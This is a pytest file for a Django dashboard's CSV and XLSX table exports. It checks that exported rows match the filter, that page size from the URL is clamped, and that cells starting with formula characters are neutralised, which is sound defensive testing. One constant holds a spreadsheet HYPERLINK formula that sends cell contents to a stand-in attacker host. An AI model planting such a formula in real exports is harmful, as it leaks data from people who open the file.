"""Table downloads: exactly the filtered rows, with formula cells neutralised."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from dashboard.tables import neutralise
from tests.factories import make_org, make_platform, viewer

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


@pytest.mark.parametrize(
    "value, expected",
    [
        ("=1+1", "'=1+1"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("China Mobile", "China Mobile"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),  # numbers are numbers, not formulas
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


@pytest.fixture
def hostile(client, db):
    client.force_login(viewer())
    make_platform("wechat", "WeChat")
    make_org(HOSTILE, name_zh="@中国", province="-")
    make_org("Plain Company")
    return client


def test_csv_download_neutralises_formulas(hostile):
    response = hostile.get(reverse("dashboard:company_list"), {"_export": "csv"})
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    bad = next(r for r in rows if "HYPERLINK" in r[0])
    assert bad[0] == "'" + HOSTILE
    assert bad[1] == "'@中国"
    plain = next(r for r in rows if r[0] == "Plain Company")
    assert plain[0] == "Plain Company"
    assert len(rows) == 3  # header and the two companies


def test_xlsx_download_neutralises_formulas(hostile):
    response = hostile.get(reverse("dashboard:company_list"), {"_export": "xlsx", "q": "hyperlink"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2  # header and only the filtered company
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type != "f"  # stored as text, not as a formula
    assert cell.value == "'" + HOSTILE


def test_unknown_export_format_renders_the_page(hostile):
    response = hostile.get(reverse("dashboard:company_list"), {"_export": "exe"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")


@pytest.mark.parametrize("per_page, expected", [("-5", 50), ("0", 50), ("100000000", 50), ("abc", 50), ("2", 2)])
def test_page_size_from_the_url_is_clamped(hostile, per_page, expected):
    for i in range(60):
        make_org(f"Filler {i:02d}")
    response = hostile.get(reverse("dashboard:company_list"), {"per_page": per_page})
    assert response.status_code == 200
    assert len(response.context["table"].paginated_rows) == expected
